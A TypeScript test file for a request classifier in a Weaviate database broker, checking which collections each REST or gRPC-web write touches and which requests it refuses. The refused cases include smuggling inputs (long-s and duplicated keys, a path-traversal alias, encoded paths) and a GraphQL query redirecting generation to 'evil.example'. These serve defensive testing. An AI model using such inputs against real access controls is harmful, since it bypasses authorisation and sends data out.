import { BinaryWriter } from '@bufbuild/protobuf/wire';
import { expect, test } from 'playwright/test';
import { deedOf } from '../../../src/live/broker/deed-of-request.ts';

function rest(method: string, path: string, body?: unknown) {
  const bytes = body === undefined ? null : new TextEncoder().encode(JSON.stringify(body));
  return deedOf({ method, path, headers: { 'content-type': 'application/json' }, body: bytes }, path);
}

function grpc(call: string, message: Uint8Array, headers = { 'content-type': 'application/grpc-web+proto' }) {
  const body = new Uint8Array(message.byteLength + 5);
  new DataView(body.buffer).setUint32(1, message.byteLength);
  body.set(message, 5);
  const path = `/v1/grpc-web/weaviate.v1.Weaviate/${call}`;
  return deedOf({ method: 'POST', path, headers, body }, path);
}

const batchOf = (...names: string[]) => {
  const writer = new BinaryWriter();
  for (const name of names) writer.tag(1, 2).fork().tag(1, 2).string('id').tag(4, 2).string(name).join();
  return new Uint8Array(writer.finish());
};

test('reads change nothing', () => {
  expect(rest('GET', '/v1/schema/Film')).toEqual({ kind: 'read' });
  expect(rest('POST', '/v1/graphql', { query: '{}' })).toEqual({ kind: 'read' });
  expect(grpc('Search', new Uint8Array())).toEqual({ kind: 'read' });
});

test('every write names its collections, by path and by body', () => {
  expect(rest('POST', '/v1/schema', { class: 'Film' })).toEqual({ kind: 'create', collections: ['Film'] });
  expect(rest('DELETE', '/v1/schema/Film')).toEqual({ kind: 'delete', collections: ['Film'] });
  expect(rest('PUT', '/v1/objects/Film/1', { class: 'Other' })).toEqual({
    kind: 'change',
    collections: ['Film', 'Other'],
  });
  expect(rest('POST', '/v1/batch/objects', { objects: [{ class: 'A' }, { class: 'B' }] })).toEqual({
    kind: 'change',
    collections: ['A', 'B'],
  });
  expect(rest('DELETE', '/v1/batch/objects', { match: { class: 'A' } })).toEqual({
    kind: 'change',
    collections: ['A'],
  });
  const references = [{ from: 'weaviate://localhost/Film/1/by', to: 'weaviate://localhost/Other/2' }];
  expect(rest('POST', '/v1/batch/references', references)).toEqual({ kind: 'change', collections: ['Film'] });
});

test('another name for a collection says which, also where it moves', () => {
  const body = { alias: 'lending', class: 'Book' };
  expect(rest('POST', '/v1/aliases/', body)).toEqual({
    kind: 'alias',
    alias: 'Lending',
    target: 'Book',
    collections: ['Book'],
  });
  expect(rest('PUT', '/v1/aliases/Own', { class: 'Foreign' })).toEqual({
    kind: 'alias',
    alias: 'Own',
    target: 'Foreign',
    collections: ['Own', 'Foreign'],
  });
  expect(rest('DELETE', '/v1/aliases/Lending')).toEqual({ kind: 'unalias', collections: ['Lending'] });
});

test('properties may have any name, and a text of a block may look like JSON', () => {
  const properties = { claſs: 'x', Class: 'y', text: '{"class": 1, "class": 2}' };
  expect(rest('POST', '/v1/objects', { class: 'Film', properties: { nested: properties } })).toEqual({
    kind: 'change',
    collections: ['Film'],
  });
});

test('a name that begins with a small letter is the collection that Weaviate takes it for', () => {
  expect(rest('DELETE', '/v1/schema/film')).toEqual({ kind: 'delete', collections: ['Film'] });
});

test('gRPC writes name their collections, each time that one is written', () => {
  expect(grpc('BatchObjects', batchOf('Film', 'Other', 'Film'))).toEqual({
    kind: 'change',
    collections: ['Film', 'Other'],
  });
  const twice = new Uint8Array(
    new BinaryWriter().tag(1, 2).string('Own').tag(1, 2).string('Foreign').finish(),
  );
  expect(grpc('BatchDelete', twice)).toEqual({ kind: 'change', collections: ['Own', 'Foreign'] });
});

const raw = (method: string, path: string, text: string) =>
  deedOf({ method, path, headers: {}, body: new TextEncoder().encode(text) }, path);

const refused: [string, () => unknown][] = [
  ['a key with a long s', () => rest('POST', '/v1/schema', { class: 'Own', claſs: 'Foreign' })],
  ['an alias with a long s', () => rest('POST', '/v1/aliases', { alias: 'A', aliaſ: 'B', class: 'Own' })],
  [
    'a batch with a long s',
    () => rest('POST', '/v1/batch/objects', { objects: [{ class: 'A', claſs: 'B' }] }),
  ],
  [
    'a filter with a long s',
    () => rest('DELETE', '/v1/batch/objects', { match: { class: 'A', claſs: 'B' } }),
  ],
  ['an encoded long s', () => raw('POST', '/v1/schema', '{"class":"Own","cla\\u017fs":"Foreign"}')],
  ['a key written twice', () => raw('POST', '/v1/schema', '{"class":"Own","class":"Foreign"}')],
  [
    'a key written twice further inside',
    () => raw('DELETE', '/v1/batch/objects', '{"match":{"class":"Foreign"},"match":{"class":"Own"}}'),
  ],
  [
    'an alias that is a path',
    () => rest('POST', '/v1/aliases', { alias: '../schema/Foreign', class: 'Own' }),
  ],
  ['an alias that is no text', () => rest('POST', '/v1/aliases', { alias: null, class: 'Own' })],
  [
    'a GraphQL query that says where texts go',
    () => rest('POST', '/v1/graphql', { query: '{ generate(openai: { baseURL: "https://evil.example" }) }' }),
  ],
  ['a search that cannot be read', () => grpc('Search', new Uint8Array([0xe2, 3, 9]))],
  ['a backup', () => rest('POST', '/v1/backups/filesystem', { id: 'x' })],
  ['an encoded path', () => rest('DELETE', '/v1/schema/%46ilm')],
  ['an empty step in a path', () => rest('DELETE', '/v1//schema/Film')],
  ['an object of no collection', () => rest('POST', '/v1/objects', { properties: {} })],
  ['a key in other letters', () => rest('POST', '/v1/objects', { class: 'Own', Class: 'Foreign' })],
  ['an old way to an object', () => rest('DELETE', '/v1/objects/1')],
  ['a body that is no JSON', () => rest('POST', '/v1/schema')],
  ['a stream', () => grpc('BatchStream', batchOf('Film'))],
  ['another encoding', () => grpc('BatchDelete', batchOf('Film'), { 'content-type': 'application/json' })],
  ['a message that is cut off', () => grpc('BatchObjects', batchOf('Film').subarray(0, 6))],
  ['a batch with a part that names nothing', () => grpc('BatchObjects', new Uint8Array([10, 0]))],
];

for (const [what, deed] of refused) {
  test(`refuses ${what}`, () => {
    expect(deed()).toMatchObject({ kind: 'refused' });
  });
}
